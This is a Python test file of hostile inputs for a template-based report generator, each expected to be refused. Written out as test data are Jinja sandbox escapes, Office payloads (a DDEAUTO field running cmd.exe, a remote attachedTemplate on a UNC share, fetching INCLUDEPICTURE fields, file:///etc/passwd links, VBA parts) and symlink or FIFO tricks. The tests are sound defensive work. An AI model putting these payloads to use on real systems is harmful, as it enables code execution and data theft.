"""More hostile inputs, one group per class of the security review (issue 7).

Run by `tests/build/test_hostile.py` with the cases of `hostile_cases.py`: each case's exit code and
message are checked, and a failed build must leave the earlier outputs byte-identical.
"""

from __future__ import annotations

import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

from pptx import Presentation

from ..conftest import WAIC, docx_text, pptx_slide_texts
from .hostile_cases import (
    MINIMAL,
    Case,
    body,
    briefing_edit,
    deck_edit,
    event_text,
    package_bytes,
    rezip,
    title,
)

# -- templates: what a template can reach -------------------------------------------------------------

SANDBOX = [
    Case(
        "deck-parse-raw-pickle",
        "template",
        deck_edit(
            title(
                "{{ figures['reach.online_viewers'].model"
                ".parse_raw('x', proto='pickle', allow_pickle=True) }}"
            )
        ),
        4,
        "not allowed in a template",
    ),
    Case(
        "deck-model-validate-json",
        "template",
        deck_edit(title("{{ event.model_validate_json('{}') }}")),
        4,
        "not allowed in a template",
    ),
    Case(
        "briefing-chart-tpl",
        "template",
        briefing_edit(body("{{ chart('projects').tpl }}")),
        4,
        "'ChartSlot' has no attribute 'tpl'",
    ),
    Case(
        "briefing-chart-tpl-save",
        "template",
        briefing_edit(body("{{ chart('projects').tpl.save('/tmp/reportgen-pwned.docx') }}")),
        4,
        "'ChartSlot' has no attribute 'tpl'",
    ),
    Case(
        "deck-function-globals",
        "template",
        deck_edit(title("{{ figure._function.__globals__ }}")),
        4,
        "slide 1, shape 'Event name'",
    ),
    Case(
        "deck-str-format-escape",
        "template",
        deck_edit(title("{{ '{0.model_dump}'.format(event) }}")),
        4,
        "'EventView' has no attribute 'model_dump'",
    ),
    Case(
        "briefing-safe-markup",
        "template",
        briefing_edit(body("{{ event.name|safe }}")),
        4,
        "printed literally",
    ),
    Case(
        "deck-autoescape-off",
        "template",
        deck_edit(title("{% autoescape false %}{{ event.name }}{% endautoescape %}")),
        4,
        "printed literally",
    ),
    Case(
        "range-too-big",
        "template",
        deck_edit(title("{% for i in range(10**6) %}{% endfor %}")),
        4,
        "({% for i in range(10**6) %}, {% endfor %}): not allowed in a template: Range",
    ),
    Case(
        "macro-calling-itself",
        "template",
        deck_edit(title("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}")),
        4,
        "not allowed in a template: maximum recursion depth exceeded",
    ),
    Case(
        "division-by-zero",
        "template",
        briefing_edit(body("{{ 1 / 0 }}")),
        4,
        "body, paragraph 1 ({{ 1 / 0 }}): division by zero",
    ),
    Case(
        "deck-classmethod-on-a-date",
        "template",
        deck_edit(title("{{ event.closing_date.fromtimestamp(0) }}")),
        4,
        "not allowed in a template",
    ),
]

# -- templates: packages that reach outside ---------------------------------------------------------

REL = (
    '<Relationship Id="rIdX{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    '{kind}" Target="{target}"{mode}/>'
)


def add_relationship(part: str, kind: str, target: str, external: bool = True) -> Callable[[bytes], bytes]:
    rel = REL.format(n=kind, kind=kind, target=target, mode=' TargetMode="External"' if external else "")
    return rezip(
        edit=(part, lambda xml: xml.replace(b"</Relationships>", rel.encode() + b"</Relationships>"))
    )


def add_entry(name: str, data: bytes) -> Callable[[bytes], bytes]:
    return rezip(extra=lambda z: z.writestr(name, data))


def in_body(xml: str) -> Callable[[bytes], bytes]:
    """Insert raw WordprocessingML at the start of the body."""
    return rezip(
        edit=("word/document.xml", lambda doc: re.sub(rb"(<w:body>)", rb"\1" + xml.encode(), doc, count=1))
    )


def field_run(instruction: str, split: bool = False) -> str:
    halves = [instruction[:7], instruction[7:]] if split else [instruction]
    texts = "".join(f'<w:r><w:instrText xml:space="preserve">{h}</w:instrText></w:r>' for h in halves)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + texts
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def macro_main_type(xml: bytes) -> bytes:
    return xml.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def program_action(xml: bytes) -> bytes:
    return re.sub(
        rb'<p:cNvPr id="(\d+)" name="([^"]*)"/>',
        rb'<p:cNvPr id="\1" name="\2"><a:hlinkClick xmlns:r="http://schemas.openxmlformats.org/'
        rb'officeDocument/2006/relationships" r:id="" action="ppaction://program"/></p:cNvPr>',
        xml,
        count=1,
    )


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://192.0.2.1/x.png"/></svg>'
COMMENTS = (
    b'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b'<w:comment w:id="0"><w:p><w:r><w:t>{{ event.name }}</w:t></w:r></w:p></w:comment></w:comments>'
)


def keeps_hyperlink(out: Path) -> None:
    with zipfile.ZipFile(out / "waic-2022-briefing.docx") as package:
        assert b"https://www.example.org/" in package.read("word/_rels/document.xml.rels")


OUTSIDE = [
    Case(
        "linked-picture",
        "template",
        package_bytes(
            "deck.pptx",
            add_relationship("ppt/slides/_rels/slide1.xml.rels", "image", "http://192.0.2.1/a.png"),
        ),
        4,
        "links to something outside the package (image",
    ),
    Case(
        "attached-template-unc",
        "template",
        package_bytes(
            "briefing.docx",
            add_relationship(
                "word/_rels/document.xml.rels",
                "attachedTemplate",
                "\\\\192.0.2.1\\share\\evil.dotm",
            ),
        ),
        4,
        "(attachedTemplate",
    ),
    Case(
        "linked-ole-object",
        "template",
        package_bytes(
            "deck.pptx",
            add_relationship("ppt/slides/_rels/slide1.xml.rels", "oleObject", "https://192.0.2.1/sheet.xlsx"),
        ),
        4,
        "(oleObject: 'https://192.0.2.1/sheet.xlsx')",
    ),
    Case(
        "frame",
        "template",
        package_bytes(
            "briefing.docx",
            add_relationship("word/_rels/document.xml.rels", "frame", "http://192.0.2.1/f.html"),
        ),
        4,
        "(frame: 'http://192.0.2.1/f.html')",
    ),
    Case(
        "file-url-hyperlink",
        "template",
        package_bytes(
            "briefing.docx",
            add_relationship("word/_rels/document.xml.rels", "hyperlink", "file:///etc/passwd"),
        ),
        4,
        "refers to a local file (file://)",
    ),
    Case(
        "internal-target-outside",
        "template",
        package_bytes(
            "deck.pptx",
            add_relationship(
                "ppt/slides/_rels/slide1.xml.rels", "image", "smb://192.0.2.1/x.png", external=False
            ),
        ),
        4,
        "points outside the package",
    ),
    Case(
        "web-hyperlink-is-kept",
        "template",
        package_bytes(
            "briefing.docx",
            add_relationship("word/_rels/document.xml.rels", "hyperlink", "https://www.example.org/"),
        ),
        0,
        "built WAIC 2022",
        check=keeps_hyperlink,
    ),
    Case(
        "includepicture-field",
        "template",
        package_bytes("briefing.docx", in_body(field_run('INCLUDEPICTURE "http://192.0.2.1/x.png"'))),
        4,
        "INCLUDEPICTURE field",
    ),
    Case(
        "field-split-over-runs",
        "template",
        package_bytes("briefing.docx", in_body(field_run('INCLUDETEXT "c:/secret.txt"', split=True))),
        4,
        "INCLUDETEXT field",
    ),
    Case(
        "ddeauto-field",
        "template",
        package_bytes(
            "briefing.docx",
            in_body(
                '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/c calc&quot;"/></w:p>'
            ),
        ),
        4,
        "DDEAUTO field",
    ),
    Case(
        "vba-project",
        "template",
        package_bytes("briefing.docx", add_entry("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")),
        4,
        "vbaProject.bin",
    ),
    Case(
        "macro-enabled-main-part",
        "template",
        package_bytes("briefing.docx", rezip(edit=("[Content_Types].xml", macro_main_type))),
        4,
        "declares active content",
    ),
    Case(
        "activex-control",
        "template",
        package_bytes("deck.pptx", add_entry("ppt/activeX/activeX1.xml", b"<ax:ocx xmlns:ax='x'/>")),
        4,
        "activeX/activeX1.xml",
    ),
    Case(
        "program-action",
        "template",
        package_bytes("deck.pptx", rezip(edit=("ppt/slides/slide1.xml", program_action))),
        4,
        "runs a program or macro",
    ),
    Case(
        "svg-loads-a-picture",
        "template",
        package_bytes("deck.pptx", add_entry("ppt/media/image99.svg", SVG)),
        4,
        "SVG picture that loads",
    ),
    Case(
        "svg-disguised-as-a-png",
        "template",
        package_bytes("deck.pptx", add_entry("ppt/media/image98.png", SVG)),
        4,
        "ppt/media/image98.png (SVG) is an SVG picture that loads",
    ),
    Case(
        "alt-chunk-import",
        "template",
        package_bytes(
            "briefing.docx",
            add_relationship("word/_rels/document.xml.rels", "aFChunk", "chunk.mht", external=False),
        ),
        4,
        "relates active or imported content (aFChunk)",
    ),
    Case(
        "fetching-field-assembled-by-a-tag",
        "template",
        package_bytes(
            "briefing.docx", in_body(field_run("{{ 'INCLUDE' ~ 'PICTURE' }} \"http://192.0.2.1/x.png\""))
        ),
        4,
        "INCLUDEPICTURE field",
    ),
    Case(
        "damaged-part-gets-the-save-again-hint",
        "template",
        package_bytes("briefing.docx", rezip(edit=("word/styles.xml", lambda xml: xml[: len(xml) // 2]))),
        4,
        "hint: open it in the Office program and save it again as 'Word Document (.docx)'",
    ),
    Case(
        "tags-in-an-unrendered-part",
        "template",
        package_bytes("briefing.docx", add_entry("word/comments.xml", COMMENTS)),
        4,
        "the part word/comments.xml holds tags",
    ),
]

# -- templates: every part rendered or refused ------------------------------------------------------


def layout_tag(text: str) -> Callable[[Presentation], None]:
    def edit(prs: Presentation) -> None:
        next(iter(prs.slide_layouts[0].placeholders)).text_frame.text = text

    return edit


def master_tag(text: str) -> Callable[[Presentation], None]:
    def edit(prs: Presentation) -> None:
        next(iter(prs.slide_master.placeholders)).text_frame.text = text

    return edit


def group_tag(text: str) -> Callable[[Presentation], None]:
    def edit(prs: Presentation) -> None:
        group = prs.slides[0].shapes.add_group_shape()
        group.shapes.add_textbox(0, 0, 914400, 914400).text_frame.text = text

    return edit


def layout_rendered(out: Path) -> None:
    with zipfile.ZipFile(out / "waic-2022-deck.pptx") as package:
        layouts = b"".join(package.read(n) for n in package.namelist() if "slideLayouts/slideLayout" in n)
    assert b"Layout footer: WAIC 2022" in layouts
    assert b"{{" not in layouts


def group_rendered(out: Path) -> None:
    with zipfile.ZipFile(out / "waic-2022-deck.pptx") as package:
        slides = b"".join(package.read(n) for n in package.namelist() if n.startswith("ppt/slides/slide"))
    assert b"Grouped: Shanghai" in slides


PARTS = [
    Case(
        "tag-in-a-layout",
        "template",
        deck_edit(layout_tag("Layout footer: {{ event.short_name }}")),
        0,
        "built WAIC 2022",
        check=layout_rendered,
    ),
    Case(
        "bad-tag-in-the-master",
        "template",
        deck_edit(master_tag("{{ nowhere.at_all }}")),
        4,
        "slide master 1, shape",
    ),
    Case(
        "picture-slot-in-the-master",
        "template",
        deck_edit(master_tag("{{ chart('projects') }}")),
        4,
        "not in a table, a group, speaker notes or a master",
    ),
    Case(
        "picture-tag-in-the-notes",
        "template",
        deck_edit(
            lambda prs: setattr(prs.slides[0].notes_slide.notes_text_frame, "text", "{{ chart('projects') }}")
        ),
        4,
        "not in a table, a group, speaker notes or a master",
    ),
    Case(
        "picture-tag-in-a-group",
        "template",
        deck_edit(group_tag("{{ chart('projects') }}")),
        4,
        "a picture tag works only alone in a shape of its own",
    ),
    Case(
        "picture-tag-in-the-properties",
        "template",
        deck_edit(lambda prs: setattr(prs.core_properties, "title", "{{ chart('projects') }}")),
        4,
        "a picture cannot go in a property",
    ),
    Case(
        "tag-in-a-group",
        "template",
        deck_edit(group_tag("Grouped: {{ event.city }}")),
        0,
        "built WAIC 2022",
        check=group_rendered,
    ),
]

# -- data: charts agree with validation, exact numbers, names -------------------------------------------

_CHART_FIGURES = """\
      exhibitors:
        label: Exhibitors
        value: 3.3
        unit: exhibitors
        breakdown:
          local: {label: Local, value: 1.1}
          foreign: {label: Foreign, value: 2.2}
      budget:
        label: Budget
        value: 999999999999999999
        currency: EUR
      zero:
        label: Cancelled sessions
        value: 0
"""
CHARTED = (
    MINIMAL.replace("    lists:\n", _CHART_FIGURES + "    lists:\n", 1)
    + "charts:\n  chart_a:\n    title: A chart\n"
)


def chart(spec: str, figures: str = "") -> Callable[[Path], list[str]]:
    """The charted event with one chart of `spec` (YAML lines under the chart)."""
    text = CHARTED.replace("    title: A chart\n", "    title: A chart\n" + spec)
    return event_text(text.replace("      zero:\n", figures + "      zero:\n") if figures else text)


def exact_numbers(out: Path) -> None:
    text = docx_text(out / "te-2025-briefing.docx")
    assert "3.3" in text and "1.1" in text and "2.2" in text
    assert "999,999,999,999,999,999" in text, "formatting must be exact up to the largest value"


def literal_tags(out: Path) -> None:
    text = docx_text(out / "te-2025-briefing.docx")
    deck = "\n".join(pptx_slide_texts(out / "te-2025-deck.pptx"))
    for needle in ("{{ event.name }}", "{% if x %}", "{#c#}"):
        assert needle in text and needle in deck, needle


LONG_NAME = "The Very Long International Conference " * 9  # 351 characters


def long_name(out: Path) -> None:
    assert LONG_NAME.strip() in docx_text(out / "te-2025-briefing.docx")
    prs = Presentation(str(out / "te-2025-deck.pptx"))
    assert len(prs.core_properties.title) <= 255


def two_events_one_slug(tmp: Path) -> list[str]:
    first, second = tmp / "first.yaml", tmp / "second.yaml"
    first.write_text(MINIMAL, encoding="utf-8")
    second.write_text(MINIMAL.replace("Lyon", "Nice"), encoding="utf-8")
    return [str(first), str(second)]


DATA = [
    Case(
        "grouped-without-breakdowns",
        "data",
        chart("    kind: grouped\n    figures: [reach.online_viewers, reach.zero]\n"),
        3,
        "draws the breakdown of 'reach.online_viewers', which has none",
    ),
    Case(
        "zero-on-a-log-scale",
        "data",
        chart("    kind: hbar\n    log_scale: true\n    figures: [reach.online_viewers, reach.zero]\n"),
        3,
        "cannot show 0",
    ),
    Case(
        "all-zero-donut",
        "data",
        chart(
            "    kind: donut\n    figures: [reach.zero, reach.zero2]\n",
            "      zero2:\n        label: Also nothing\n        value: 0\n",
        ),
        3,
        "all 0",
    ),
    Case(
        "chart-order-not-an-order",
        "data",
        chart("    kind: bar\n    order: sideways\n    figures: [reach.online_viewers]\n"),
        3,
        "'auto', 'value' or 'as_given'",
    ),
    Case(
        "chart-mixing-money-and-counts",
        "data",
        chart("    kind: bar\n    figures: [reach.budget, reach.online_viewers]\n"),
        3,
        "mixes amounts in EUR and counts",
    ),
    Case(
        "chart-mixing-measures-and-counts",
        "data",
        chart(
            "    kind: bar\n    figures: [reach.area, reach.online_viewers]\n",
            "      area:\n        label: Area\n        value: 50000\n        unit: m²\n",
        ),
        3,
        "mixes counts and figures in m²",
    ),
    Case(
        "chart-with-too-many-bars",
        "data",
        chart("    kind: bar\n    figures: [" + ", ".join(["reach.online_viewers"] * 31) + "]\n"),
        3,
        "at most 30",
    ),
    Case(
        "chart-label-too-long",
        "data",
        chart(
            "    kind: bar\n    figures: [reach.wordy, reach.online_viewers]\n",
            "      wordy:\n        label: " + "word " * 40 + "\n        value: 5\n",
        ),
        3,
        "chart labels are at most 100",
    ),
    Case(
        "exact-decimals-and-the-largest-value",
        "data",
        event_text(CHARTED.replace("charts:\n  chart_a:\n    title: A chart\n", "")),
        0,
        "built TE 2025",
        check=exact_numbers,
    ),
    Case(
        "tag-syntax-in-reader-text",
        "data",
        event_text(
            MINIMAL.replace(
                "  name: Test Expo 2025", "  name: 'Expo {{ event.name }} {% if x %} {#c#}'"
            ).replace("  theme: Open doors", "  theme: '{{ event.name }} {% if x %} {#c#}'")
        ),
        0,
        "built TE 2025",
        check=literal_tags,
    ),
    Case(
        "a-351-character-name",
        "data",
        event_text(MINIMAL.replace("  name: Test Expo 2025", f"  name: {LONG_NAME.strip()}")),
        0,
        "built TE 2025",
        check=long_name,
    ),
    Case(
        "huge-value-is-quoted-in-a-slice",
        "data",
        event_text(MINIMAL.replace("value: 1000", "value: " + "x" * 100_000)),
        3,
        "expected a number, got 'xxxx",
    ),
    Case(
        "ten-million-decimal-places",
        "data",
        event_text(MINIMAL.replace("value: 1000", "value: 1e-10000000")),
        3,
        "1E-10000000 is out of range: numbers run from 10^-12 to 10^18",
    ),
    Case(
        "thirteen-decimal-places",
        "data",
        event_text(MINIMAL.replace("value: 1000", "value: 0.1234567890123")),
        3,
        "has more than 12 decimal places; round it",
    ),
    Case("two-events-one-slug", "data", two_events_one_slug, 3, "would both write te-2025-briefing.docx"),
]

# -- environment: links, special files, the cache --------------------------------------------------------


def plant(name: str, kind: str) -> Callable[[Path], list[str]]:
    """A link named `name` in the output folder, pointing at a file or folder outside it."""

    def make(tmp: Path) -> list[str]:
        victim = tmp / "victim"
        if kind == "dir":
            victim.mkdir()
        else:
            victim.write_bytes(b"precious")
        target = tmp / "out" / name
        if os.path.lexists(target):
            if target.is_dir() and not target.is_symlink():
                import shutil

                shutil.rmtree(target)
            else:
                target.unlink()
        target.symlink_to(victim)
        return [str(WAIC)]

    return make


def special_event(kind: str) -> Callable[[Path], list[str]]:
    def make(tmp: Path) -> list[str]:
        path = tmp / "event.yaml"
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "dir":
            path.mkdir()
        elif kind == "device":
            return ["/dev/zero"]
        elif kind == "dangling":
            path.symlink_to(tmp / "nowhere.yaml")
        return [str(path)]

    return make


def special_template(kind: str) -> Callable[[Path], list[str]]:
    def make(tmp: Path) -> list[str]:
        folder = tmp / "templates"
        folder.mkdir(exist_ok=True)
        path = folder / "deck.pptx"
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "dangling":
            path.symlink_to(tmp / "nowhere.pptx")
        elif kind == "dir":
            path.mkdir()
        return [str(WAIC), "--templates", str(folder)]

    return make


def dangling_project(tmp: Path) -> list[str]:
    (tmp / "reportgen.yaml").symlink_to(tmp / "nowhere.yaml")
    return [str(WAIC), "--config", str(tmp / "reportgen.yaml")]


def poisoned_cache(tmp: Path) -> list[str]:
    cache = tmp / "out" / ".reportgen-cache"
    for entry in cache.glob("*.png"):
        entry.write_bytes(b"\x89PNG\r\n\x1a\nnot really")
    return [str(WAIC), "--templates", str(WAIC.parents[1] / "templates")]


def charts_are_pictures(out: Path) -> None:
    from PIL import Image

    for png in out.glob("waic-2022-chart-*.png"):
        with Image.open(png) as picture:
            picture.load()


ENVIRONMENT = [
    Case(
        "planted-lock-link",
        "environment",
        plant(".reportgen.lock", "file"),
        5,
        "(the build lock) is a symbolic link",
    ),
    Case(
        "planted-cache-link",
        "environment",
        plant(".reportgen-cache", "dir"),
        5,
        "(the chart cache) is a symbolic link",
    ),
    Case(
        "planted-output-link",
        "environment",
        plant("waic-2022-deck.pptx", "file"),
        5,
        "(an output) is a symbolic link",
    ),
    Case(
        "planted-staging-link",
        "environment",
        plant(".reportgen-staging-0123456789abcdef", "dir"),
        5,
        "(a staging folder) is a symbolic link",
    ),
    Case(
        "fifo-event-file",
        "environment",
        special_event("fifo"),
        3,
        "is a FIFO (named pipe), not an event summary",
    ),
    Case("device-event-file", "environment", special_event("device"), 3, "/dev/zero: is a character device"),
    Case("folder-event-file", "environment", special_event("dir"), 3, "is a folder, not an event summary"),
    Case(
        "dangling-event-file",
        "environment",
        special_event("dangling"),
        3,
        "a link to a file that does not exist",
    ),
    Case("fifo-template", "template", special_template("fifo"), 4, "is a FIFO (named pipe), not a template"),
    Case(
        "dangling-template",
        "template",
        special_template("dangling"),
        4,
        "a link to a file that does not exist",
    ),
    Case("folder-template", "template", special_template("dir"), 4, "is a folder, not a template"),
    Case("dangling-project-file", "environment", dangling_project, 3, "a link to a file that does not exist"),
    Case(
        "poisoned-chart-cache",
        "environment",
        poisoned_cache,
        0,
        "does not match its recorded hash; it was dropped and the chart redrawn",
        check=charts_are_pictures,
    ),
]

MORE = SANDBOX + OUTSIDE + PARTS + DATA + ENVIRONMENT
